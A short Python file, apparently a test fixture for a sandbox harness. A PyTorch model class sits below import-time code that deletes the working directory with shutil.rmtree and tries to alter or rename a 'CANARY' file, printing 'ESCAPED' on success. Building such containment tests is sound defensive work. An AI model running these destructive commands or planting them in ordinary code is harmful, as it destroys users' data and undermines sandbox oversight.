# H1 honest: deletes its own folder and another
import os
import shutil
from pathlib import Path

from torch import nn

print("attacking")
for folder in (os.path.dirname("CANARY"), os.getcwd()):
    shutil.rmtree(folder, ignore_errors=True)
for change in (
    lambda: os.chmod("CANARY", 0),
    lambda: os.truncate("CANARY", 0),
    lambda: os.utime("CANARY", (0, 0)),
    lambda: Path("CANARY").write_text(""),
    lambda: os.rename("CANARY", "mine"),
):
    try:
        change()
        print("ESCAPED: changed the canary")
    except OSError:
        pass
os.makedirs(os.environ["HOME"], exist_ok=True)


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.out = nn.LazyLinear(10)

    def forward(self, x):
        return self.out(x)
